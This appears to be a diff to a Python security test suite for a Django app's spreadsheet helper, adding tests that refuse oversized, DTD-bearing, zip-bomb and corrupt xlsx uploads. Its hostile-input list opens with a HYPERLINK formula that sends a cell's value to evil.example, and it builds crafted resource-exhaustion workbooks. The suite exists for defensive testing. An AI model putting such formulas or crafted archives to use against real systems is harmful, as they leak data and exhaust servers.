@@ -1,18 +1,21 @@
-"""The one xlsx writer (community_admin/core/xlsx.py): text is never written as a formula.
-The exporters' own files: tests/security/test_formula_injection.py."""
+"""The one xlsx writer and reader (community_admin/core/xlsx.py): text is never written as a formula, and an
+upload is read within bounds whatever it declares. The exporters' own files: tests/security/test_formula_injection.py."""
 
 import ast
 import io
+import zipfile
 from datetime import date
 from decimal import Decimal
 from pathlib import Path
 
 import pytest
 from django.conf import settings
+from django.core.exceptions import ValidationError
 from openpyxl import load_workbook
 from openpyxl.styles import Font
 
-from community_admin.core import xlsx
+from community_admin.core import uploads, xlsx
+from tests.workbooks import crafted, row, sheet_xml, text_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&J2,"点此")',
@@ -90,8 +93,6 @@ ROOT = Path(settings.BASE_DIR)
 HELPER = "community_admin/core/xlsx.py"
 # Benchmarks measure openpyxl itself (bench/ledgers.py's "floor") and build synthetic import files.
 OUTSIDE_THE_APP = ("bench/", "tests/", ".venv/", "var/", "node_modules/")
-# They only read uploads (load_workbook in read-only mode).
-READERS = ("residents/importers.py", "ledgers/importers.py")
 # What a module may take from openpyxl besides the helper: formatting, nothing that makes or reads cells.
 FORMATTING = ("openpyxl.styles", "openpyxl.utils")
 
@@ -140,26 +141,28 @@ def bypasses(rel: str, tree) -> list[str]:
     for node in ast.walk(tree):  # openpyxl.Workbook(...) by attribute, or a Workbook(...) of any origin
         func = getattr(node, "func", None)
         name = getattr(func, "id", None) or getattr(func, "attr", None)
-        if isinstance(node, ast.Call) and name in ("Workbook", "WriteOnlyCell"):
+        if isinstance(node, ast.Call) and name in ("Workbook", "WriteOnlyCell", "load_workbook"):
             found.append(f"{rel}:{node.lineno}: {name}(...)")
     return found
 
 
 def test_no_module_writes_or_reads_a_workbook_but_through_the_helper():
-    """A new exporter that builds its own `Workbook(...)` writes formulas again: this walks every module of
-    the project and fails on it."""
+    """A new exporter that builds its own `Workbook(...)` writes formulas again, an import that calls
+    `load_workbook` reads unbounded: this walks every module of the project and fails on either."""
     found, writers = [], []
     for rel, tree in _sources():
-        if rel in (HELPER, *READERS):
+        if rel == HELPER:
             continue
         found += bypasses(rel, tree)
         if _uses_helper(tree):
             writers.append(rel)
     assert found == [], "\n".join(found)
-    # The walk sees every exporter (else it proves nothing).
+    # The walk sees every exporter and both imports (else it proves nothing).
     for module in (
         "residents/exporters.py",
+        "residents/importers.py",
         "ledgers/exporters.py",
+        "ledgers/importers.py",
         "staff/exporters.py",
         "funding/exporters.py",
         "community_admin/dashboards/exporters.py",
@@ -175,10 +178,98 @@ def test_no_module_writes_or_reads_a_workbook_but_through_the_helper():
         "import openpyxl\nfrom community_admin.core import xlsx\nopenpyxl.Workbook()\n",
         "from openpyxl.cell import WriteOnlyCell\nfrom community_admin.core import xlsx\n",
         "from openpyxl.styles import Font\n",  # styles cells, so it writes: without the helper
+        "from openpyxl import load_workbook\nload_workbook('x.xlsx')\n",
     ],
 )
 def test_the_walk_catches_a_bypass(source):
     assert bypasses("new/exporters.py", ast.parse(source))
+
+
+# Reading within bounds -------------------------------------------------------------------------------
+
+
+def open_rows(upload, **kwargs):
+    with xlsx.open_import(upload) as sheet:
+        rows = list(sheet.rows(**kwargs))
+    return sheet, rows
+
+
+def test_rows_are_read_to_the_width_asked_whatever_the_sheet_declares():
+    upload = crafted(
+        sheet_xml(row(1, ["a", "b"]) + f'<row r="3">{text_cell("XFD3", "far")}</row>', dimension="A1:XFD3")
+    )
+    sheet, rows = open_rows(upload, start=1, limit=10, width=2)
+    assert rows == [(1, ("a", "b")), (2, (None, None)), (3, (None, None))]  # the gap is a row read
+    assert (sheet.rows_read, sheet.cells_read) == (3, 6)
+
+
+def test_a_row_beyond_the_limit_is_refused_empty_rows_and_gaps_included():
+    upload = crafted(sheet_xml(row(1, ["h"]) + '<row r="2"/><row r="3"/>' + row(1_048_576, ["x"])))
+    with pytest.raises(xlsx.WorkbookRefused) as refused:
+        open_rows(upload, start=2, limit=100, width=1)
+    assert refused.value.message == xlsx.ERR_TOO_MANY_ROWS.format(limit=100)
+    assert refused.value.row == 102
+
+
+def test_the_read_stops_after_the_time_allowed(monkeypatch, settings):
+    settings.IMPORT_MAX_SECONDS = 5
+    clock = iter(range(0, 10_000))  # one second per look at the clock
+    monkeypatch.setattr(xlsx, "monotonic", lambda: next(clock))
+    upload = crafted(sheet_xml("".join(row(n, [f"r{n}"]) for n in range(1, 50))))
+    with pytest.raises(xlsx.WorkbookRefused) as refused:
+        open_rows(upload, start=1, limit=1000, width=1)
+    assert refused.value.message == xlsx.ERR_TOO_SLOW.format(seconds="5")
+
+
+def test_a_row_wider_than_excel_allows_is_refused_before_openpyxl_parses_it():
+    # A million empty cells in one row pack into a few KB and cost openpyxl 14 s and 570 MB to parse.
+    cells = '<c r="A1"/>' * (xlsx.EXCEL_MAX_COLUMNS + 1)
+    with pytest.raises(xlsx.WorkbookRefused) as refused:
+        open_rows(crafted(sheet_xml(f'<row r="1">{cells}</row>')), start=1, limit=10, width=1)
+    assert refused.value.message == xlsx.ERR_TOO_WIDE
+
+
+def test_a_dtd_is_refused():
+    doctype = "<!DOCTYPE worksheet [<!ENTITY c \"<c r='A1'/>\">]>"
+    with pytest.raises(xlsx.WorkbookRefused) as refused:
+        open_rows(crafted(sheet_xml(row(1, ["a"]), prolog=doctype)), start=1, limit=10, width=1)
+    assert refused.value.message.startswith("结构异常（含有 DTD 声明）")
+
+
+def test_an_archive_unpacking_beyond_the_limit_is_refused_from_its_directory(settings):
+    settings.IMPORT_MAX_UNPACKED_BYTES = 1024 * 1024
+    bomb = crafted(sheet_xml(row(1, ["a"]) + "<!-- padding -->" + " " * (2 * 1024 * 1024)))
+    assert len(bomb.getvalue()) < 20_000  # two megabytes of spaces pack into a few kilobytes
+    with pytest.raises(xlsx.WorkbookRefused) as refused:
+        open_rows(bomb, start=1, limit=10, width=1)
+    assert refused.value.message == xlsx.ERR_UNPACKED.format(mb=1)
+    # The forms' upload check says so on the field, before the import starts.
+    bomb.seek(0)
+    with pytest.raises(ValidationError) as invalid:
+        uploads.check_workbook(bomb)
+    assert invalid.value.messages == ["文件：" + xlsx.ERR_UNPACKED.format(mb=1)]
+
+
+def test_a_part_read_whole_is_bounded_on_its_own():
+    base = crafted(sheet_xml(row(1, ["a"])))
+    out = io.BytesIO()
+    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            data = src.read(info.filename)
+            if info.filename == "xl/styles.xml":
+                data = data.replace(
+                    b"</styleSheet>", b" " * (xlsx.WHOLE_PART_MAX_BYTES + 1) + b"</styleSheet>"
+                )
+            dst.writestr(info.filename, data)
+    with pytest.raises(xlsx.WorkbookRefused) as refused:
+        xlsx.check_archive(out)
+    assert refused.value.message.startswith("解压后超过")
+
+
+def test_a_file_that_is_not_a_workbook_is_unreadable():
+    with pytest.raises(xlsx.WorkbookRefused) as refused:
+        open_rows(io.BytesIO(b"PK\x03\x04 not really"), start=1, limit=1, width=1)
+    assert refused.value.message == xlsx.ERR_UNREADABLE
 
 
 def test_sheet_titles_are_ones_excel_takes():
@@ -187,3 +278,14 @@ def test_sheet_titles_are_ones_excel_takes():
     assert sheet.title == "A1 甲_乙社区居委会_东区_____很长很长很长很长很长很长"
     assert len(sheet.title) == xlsx.SHEET_TITLE_MAX
     assert xlsx.sheet_title("'引号'") == "引号" and xlsx.sheet_title("") is None
+
+
+def test_a_corrupt_part_is_unreadable_not_an_error_page():
+    out = io.BytesIO()
+    with zipfile.ZipFile(crafted(sheet_xml(row(1, ["a"])))) as src, zipfile.ZipFile(out, "w") as dst:
+        for info in src.infolist():  # stored, so a byte of the sheet can be changed in place
+            dst.writestr(info.filename, src.read(info.filename))
+    broken = io.BytesIO(out.getvalue().replace(b"<sheetData>", b"<sheetDatX>", 1))  # its CRC no longer holds
+    with pytest.raises(xlsx.WorkbookRefused) as refused:
+        open_rows(broken, start=1, limit=1, width=1)
+    assert refused.value.message == xlsx.ERR_UNREADABLE
